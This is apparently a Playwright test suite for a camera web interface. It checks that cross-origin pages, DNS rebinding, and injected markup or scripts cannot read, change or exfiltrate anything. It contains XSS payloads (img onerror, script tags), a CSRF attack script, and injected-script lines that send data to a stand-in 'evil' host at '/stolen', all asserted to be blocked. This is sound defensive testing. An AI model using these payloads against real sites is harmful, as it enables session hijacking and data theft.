"""What a real browser lets others do with the page: another page, a name that was made to point here, text that is
markup, a script that came in by some hole."""

import functools
import http.server
import json
import threading
import time
from contextlib import closing, contextmanager
from datetime import datetime, timezone
from types import SimpleNamespace

import browsers
import pytest
import shots
from asking import KEPT, TOKEN, Desk

from edge import settings
from edge.types import Classification, Event
from edge.vitals import Controls, Vitals
from edge.web import Web
from edge.web.choices import Choices
from edge.web.watched import Watched

GUARD_S = 60.0

MARKUP = '<img src=x onerror="hacked=1"><script>hacked=2</script>'
EVENT = Event(id="0" * 32, kind="replaced", label=MARKUP, score=0.5, at=datetime(2026, 1, 1, tzinfo=timezone.utc),
              frame=1, previous=MARKUP)  # fmt: skip

ATTACK = """async (target) => {
  const tried = async (work) => { try { return await work(); } catch (error) { return error.name; } };
  const loads = (tag, address, attribute = "src") => new Promise((then) => {
    const element = document.createElement(tag);
    element.onload = () => then("loaded");
    setTimeout(() => then(element.naturalWidth ? "shown" : "neither"), 5000);
    element.onerror = () => then("refused");
    element[attribute] = address;
    if (tag === "link") element.rel = "stylesheet";
    document.body.append(element);
  });
  const everything = { credentials: "include" };
  const json = { ...everything, headers: { "Content-Type": "application/json" }, body: '{"paused": true}' };
  const simple = { ...everything, mode: "no-cors", method: "POST" };
  return {
    read: await tried(async () => (await fetch(`${target}/api/v1/status`, everything)).status),
    opaque: await tried(async () => (await fetch(`${target}/picture.jpg`, { ...everything, mode: "no-cors" })).type),
    change: await tried(async () => (await fetch(`${target}/api/v1/settings`, { ...json, method: "PATCH" })).status),
    simple: await tried(async () => (await fetch(`${target}/api/v1/snapshot`, simple)).type),
    logout: await tried(async () => (await fetch(`${target}/logout`, simple)).type),
    picture: await loads("img", `${target}/picture.jpg`),
    stream: await loads("img", `${target}/stream.mjpg`),
    script: await loads("script", `${target}/app.js`),
    style: await loads("link", `${target}/page.css`, "href"),
    news: await new Promise((then) => {
      const updates = new EventSource(`${target}/api/v1/updates`, { withCredentials: true });
      updates.onmessage = updates.onopen = () => then("open");
      updates.onerror = () => { updates.close(); then("refused"); };
    }),
  };
}"""


class Evil(http.server.BaseHTTPRequestHandler):
    """The page of somebody else."""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>evil</title><body>" + self.server.page)

    def log_message(self, *_):
        pass


class Kept(Desk):
    """With an event whose label is markup."""

    def recent(self, most, before=None):
        return [EVENT] if before is None else []


@pytest.fixture(scope="module")
def browser():
    mapped = "--host-resolver-rules=MAP evil.example 127.0.0.1,MAP camera.example 127.0.0.1"
    with browsers.chromium(mapped) as running:
        yield running


@pytest.fixture
def context(browser):
    with closing(browser.new_context()) as context:
        context.set_default_timeout(GUARD_S * 1000)
        yield context


@contextmanager
def serving(kept):
    vitals, controls = Vitals("door"), Controls()
    answer = (Classification(MARKUP, 1, 0.9),)
    vitals.seen(*shots.shot(at_s=time.monotonic(), answer=answer, instead_of=(MARKUP,)))
    vitals.condition, vitals.words = "running", MARKUP
    vitals.problem("mqtt", MARKUP)
    web = Web(
        settings.Web(listen="127.0.0.1:0", hosts=["camera.example"]),
        [Watched(vitals, controls, Kept())],
        Choices(list),
        kept=kept,
    )
    web.start()
    try:
        end = time.monotonic() + GUARD_S
        while not web.port:
            assert time.monotonic() < end
            time.sleep(0.01)
        yield SimpleNamespace(url=f"http://127.0.0.1:{web.port}", port=web.port, vitals=vitals, controls=controls)
    finally:
        web.close()


@pytest.fixture
def camera():
    with serving(KEPT) as found:
        yield found


@pytest.fixture
def evil():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    server.page = b""
    thread = threading.Thread(target=functools.partial(server.serve_forever, 0.05))
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def until(page, true):
    """Wait until an expression is true; Playwright's own way needs a policy that allows `eval`."""
    end = time.monotonic() + GUARD_S
    while not page.evaluate(true):
        assert time.monotonic() < end, true
        page.wait_for_timeout(20)


def log_in(context, camera):
    page = context.new_page()
    page.goto(camera.url, wait_until="domcontentloaded")
    page.fill("#token", TOKEN)
    page.press("#token", "Enter")
    until(page, "document.querySelector('#state').textContent === 'running'")
    return page


@pytest.mark.parametrize(
    ("name", "called"),
    [("evil.example", "127.0.0.1"), ("127.0.0.1", "127.0.0.1"), ("evil.example", "camera.example"),
     ("camera.example", "camera.example")],
)  # fmt: skip
def test_the_page_of_another_origin_can_neither_read_nor_change_nor_embed(context, camera, evil, name, called):
    """Also one of another port of the very machine, to which the browser sends the cookies of this one; and where the
    camera is called by a name, over plain HTTP: browsers do not say then where a request comes from."""
    camera.url = f"http://{called}:{camera.port}"
    log_in(context, camera)
    page = context.new_page()
    page.goto(f"http://{name}:{evil.server_port}/")
    found = page.evaluate(ATTACK, camera.url)
    assert found.pop("read") == found.pop("change") == "TypeError"
    assert {found.pop(key) for key in ("picture", "stream", "script", "style", "news")} == {"refused"}
    assert {*found.values()} <= {"opaque", "TypeError"}, (
        "what is opaque was answered 403, and nobody can read even that"
    )
    evil.page = f"""<iframe src="{camera.url}/"></iframe><object data="{camera.url}/picture.jpg"></object>
        <form method=post enctype=text/plain action="{camera.url}/api/v1/snapshot" target=hidden><input name=x></form>
        <iframe name=hidden></iframe>""".encode()
    page.goto(f"http://{name}:{evil.server_port}/")
    page.evaluate("document.forms[0].submit()")
    until(
        page, "frames.length === 2 && [...document.querySelectorAll('iframe')].every((each) => !each.contentDocument)"
    )
    assert not any(frame.query_selector("#picture") for frame in page.frames)
    assert not camera.controls.paused and not camera.controls.snapshot.is_set()
    own = context.new_page()
    own.goto(camera.url, wait_until="domcontentloaded")
    until(own, "document.querySelector('#state').textContent === 'running'")


def test_a_page_that_is_opened_from_another_one_is_out_of_its_reach(context, camera, evil):
    log_in(context, camera)
    page = context.new_page()
    page.goto(f"http://localhost:{evil.server_port}/")
    with context.expect_page() as opened:
        page.evaluate("(target) => { window.theirs = window.open(target); }", camera.url)
    opened.value.wait_for_selector("#picture")
    until(page, "window.theirs.closed")
    assert opened.value.evaluate("window.opener") is None


def test_a_name_that_was_made_to_point_here_gets_nothing(context, camera):
    """DNS rebinding, with a browser that takes evil.example for 127.0.0.1."""
    page = context.new_page()
    address = f"http://evil.example:{camera.port}"
    assert page.goto(address).status == 421 and page.query_selector("#picture") is None
    assert page.evaluate("async () => (await fetch('/api/v1/status')).status") == 421
    assert page.evaluate("async () => (await fetch('/login', {method: 'POST', body: '{}'})).status") == 421


def test_the_cookie_is_read_by_no_script_and_sent_by_no_other_page(context, camera):
    page = log_in(context, camera)
    assert page.evaluate("document.cookie") == ""
    [cookie] = context.cookies()
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and cookie["domain"] == "127.0.0.1"
    page.evaluate("fetch('/logout', {method: 'POST'})")
    page.wait_for_selector("#login[open]")
    assert context.cookies() == []


def test_a_token_behind_the_address_logs_in_and_stays_nowhere(context, camera):
    page = context.new_page()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{camera.url}/#token={TOKEN}", wait_until="domcontentloaded")
    until(page, "document.querySelector('#state').textContent === 'running'")
    assert TOKEN not in page.url and not [url for url in asked[1:] if TOKEN in url]
    assert page.evaluate("JSON.stringify([localStorage, sessionStorage, history.state])").find(TOKEN) < 0


def test_a_script_that_came_in_by_some_hole_does_not_run_and_tells_nobody(context, camera, evil):
    page = log_in(context, camera)
    found = page.evaluate(
        """async (evil) => {
          const refused = [];
          document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
          const add = (tag, given) => document.body.append(Object.assign(document.createElement(tag), given));
          const tried = (work) => { try { work(); } catch (error) { refused.push(error.name); } };
          tried(() => add("script", { textContent: "hacked = 1" }));
          tried(() => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='hacked = 2'>"));
          tried(() => add("script", { src: `${evil}/x.js` }));
          tried(() => setTimeout("hacked = 4", 0));
          tried(() => document.body.setAttribute("onclick", "hacked = 5"));
          document.body.click();
          tried(() => add("img", { src: `${evil}/stolen` }));
          tried(() => add("iframe", { src: `${evil}/` }));
          tried(() => add("iframe", { srcdoc: "<script>parent.hacked = 6</script>" }));
          add("base", { href: evil });
          add("style", { textContent: "body { display: none }" });
          const told = await fetch(`${evil}/stolen`, { mode: "no-cors" }).then(() => "told", () => "refused");
          await new Promise((then) => setTimeout(then, 300));
          return { hacked: window.hacked ?? null, told, refused, base: document.baseURI,
                   shown: getComputedStyle(document.body).display };
        }""",
        f"http://127.0.0.1:{evil.server_port}",
    )
    assert found["hacked"] is None and found["told"] == "refused" and found["shown"] != "none"
    assert found["base"].startswith(camera.url)
    assert {"connect-src", "img-src", "frame-src", "base-uri", "style-src-elem"} <= {*found["refused"]}
    assert {"require-trusted-types-for", "TypeError"} <= {*found["refused"]}, "no text becomes markup or a script"


def test_text_from_outside_is_shown_as_text(context, camera):
    """Labels come from a model's file, problems from other machines, names from settings."""
    page = log_in(context, camera)
    until(page, "document.querySelector('#answers li') && document.querySelector('#events li')")
    until(page, "document.querySelector('#vitals').textContent.includes('onerror')")
    for place in ("#answers", "#events", "#vitals"):
        assert MARKUP in page.text_content(place), place
    assert page.query_selector("[onerror], [onclick], body script, img[src=x]") is None
    assert page.evaluate("window.hacked") is None
    camera.vitals.condition = "recovering"
    until(page, "document.body.textContent.includes('No picture')")
    assert page.query_selector("[onerror], body script") is None


def test_without_the_token_the_browser_gets_nothing_of_the_camera(context, camera):
    page = context.new_page()
    answers = []
    page.on("response", lambda answer: answers.append((answer.url.removeprefix(camera.url), answer.status)))
    page.goto(camera.url, wait_until="domcontentloaded")
    page.wait_for_selector("#login[open]")
    assert {path for path, status in answers if status == 200 and path.startswith("/api/")} == set()
    page.fill("#token", "no token")
    page.press("#token", "Enter")
    until(page, "document.querySelector('#login').textContent.includes('that is not the token')")
    assert "door" not in page.content() and json.dumps(MARKUP)[1:9] not in page.text_content("main")
